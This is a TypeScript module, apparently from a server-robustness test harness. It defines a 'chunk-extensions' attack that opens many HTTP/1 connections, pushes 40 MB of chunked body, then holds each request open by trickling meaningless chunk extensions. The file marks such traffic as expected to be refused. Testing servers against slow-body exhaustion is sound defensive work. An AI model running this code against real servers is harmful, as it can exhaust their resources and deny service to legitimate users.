import type { Attack } from '../attack.ts';
import { doubleModel } from '../attack-models.ts';
import { Http1Answers, requestHead } from '../raw/http1.ts';
import { inferPath } from '../raw/requests.ts';
import { sent } from '../target.ts';

const partBytes = 40 * 1024 * 1024;
const chunk = Buffer.concat([Buffer.from('100000\r\n'), Buffer.alloc(1 << 20, '0'), Buffer.from('\r\n')]);

export const chunkExtensions: Attack = {
  name: 'chunk-extensions',
  row: 'Twelve bodies of 40 MB stay unfinished, and only chunk extensions arrive: bytes that are no progress of the body.',
  expected: 'refused',
  establishedMin: 12,
  secondsMin: 8,
  run: (target, pressure) =>
    target.again(12 * pressure, async () => {
      const socket = await target.dial();
      if (socket === undefined) return target.sleep(100);
      const answers = new Http1Answers(target, socket);
      let isOver = false;
      void answers.next().then(() => {
        isOver = true;
      });
      const fields = { 'content-type': 'application/json', 'transfer-encoding': 'chunked' };
      socket.write(requestHead(target, 'POST', inferPath(doubleModel), fields));
      for (let bytes = 0; bytes < partBytes && !target.isOver && !isOver; bytes += 1 << 20) {
        if (!(await sent(socket, chunk))) break;
      }
      target.nowEstablished();
      while (!target.isOver && !isOver && !socket.destroyed) {
        await sent(socket, `1;${'e'.repeat(60)}\r\nx\r\n`);
        await target.sleep(200);
      }
      target.hangUp(socket);
    }),
};
